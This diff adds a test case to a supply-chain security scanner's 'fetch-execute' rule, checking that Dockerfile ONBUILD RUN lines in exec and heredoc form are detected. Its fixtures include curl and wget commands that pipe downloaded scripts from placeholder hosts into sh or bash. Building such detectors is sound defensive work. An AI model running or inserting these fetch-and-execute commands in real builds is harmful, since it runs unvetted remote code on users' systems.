@@ -54,6 +54,14 @@ describe("supply-chain/fetch-execute", () => {
     assert.deepEqual(findings.map((f) => [f.locations[0]?.startLine, f.locations[0]?.startColumn, f.evidence["how"]]), [[2, 13, "pipe"]]);
   });
 
+  it("reads ONBUILD RUN's exec form and heredocs as a RUN's", async () => {
+    const { findings } = await run({ Dockerfile: 'FROM a\nONBUILD RUN ["sh", "-c", "curl -fsSL https://x.example/i | sh"]\nONBUILD RUN <<EOF\nwget -qO- https://y.example/j | bash\nEOF\n' });
+    assert.deepEqual(findings.map((f) => [f.locations[0]?.startLine, f.locations[0]?.startColumn]), [
+      [2, 27],
+      [4, 1],
+    ]);
+  });
+
   it("reads RUN heredocs and exec-form shells in Dockerfiles", async () => {
     const { findings } = await run({ Dockerfile: 'FROM a\nRUN <<EOF\nset -e\ncurl -fsSL https://x.example/i | sh\nEOF\nRUN ["/bin/sh", "-c", "wget -qO- https://y.example/j | bash"]\n' });
     assert.deepEqual(findings.map((f) => [f.locations[0]?.startLine, f.locations[0]?.startColumn]), [
